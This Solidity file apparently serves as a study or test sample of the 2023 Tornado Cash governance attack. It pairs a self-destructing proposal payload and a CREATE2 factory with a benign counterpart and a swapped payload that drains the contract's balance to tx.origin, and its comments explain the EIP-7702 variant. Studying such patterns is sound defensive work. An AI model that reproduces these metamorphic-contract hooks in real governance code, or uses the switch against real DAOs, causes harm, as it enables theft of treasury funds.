// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

// Tornado Cash governance, May 2023: the attacker's proposal contract looked like an earlier, approved one but could
// self-destruct; its deployer had been created with CREATE2, so after the vote both were destroyed and a contract
// with different code was deployed at the same address, which governance then delegatecalled. Since Cancun
// (EIP-6780) SELFDESTRUCT only removes code created in the same transaction, but chains without it, and the habit of
// shipping proposal contracts that can self-destruct, remain.

/// @notice A proposal "payload" that does something harmless but keeps a way to destroy itself.
contract SelfDestructingPayload {
    event Executed(uint256 value);

    address private immutable deployer;

    constructor() {
        deployer = msg.sender;
    }

    function execute() external {
        emit Executed(42);
    }

    function emergencyStop() external {
        require(msg.sender == deployer, "deployer only");
        selfdestruct(payable(deployer));
    }
}

/// @notice Deploys a payload with CREATE2, so it can be deployed again at the same address.
contract PayloadFactory {
    event Deployed(address payload);

    function deploy(bytes32 salt) external returns (address payload) {
        payload = address(new SelfDestructingPayload{salt: salt}());
        emit Deployed(payload);
    }
}

/// @notice The same harmless payload without any way to destroy itself (the benign counterpart).
contract PlainPayload {
    event Executed(uint256 value);

    function execute() external {
        emit Executed(42);
    }
}

// After Cancun the same trick needs no SELFDESTRUCT: an account with an EIP-7702 delegation runs whatever code its
// key last pointed it at, so an address governance approved can carry different code at execution.

/// @notice What the delegated account is re-pointed to after the vote: same interface, different behaviour.
contract SwappedPayload {
    event Executed(uint256 value);

    function execute() external payable {
        emit Executed(666);
        payable(tx.origin).transfer(address(this).balance);
    }
}
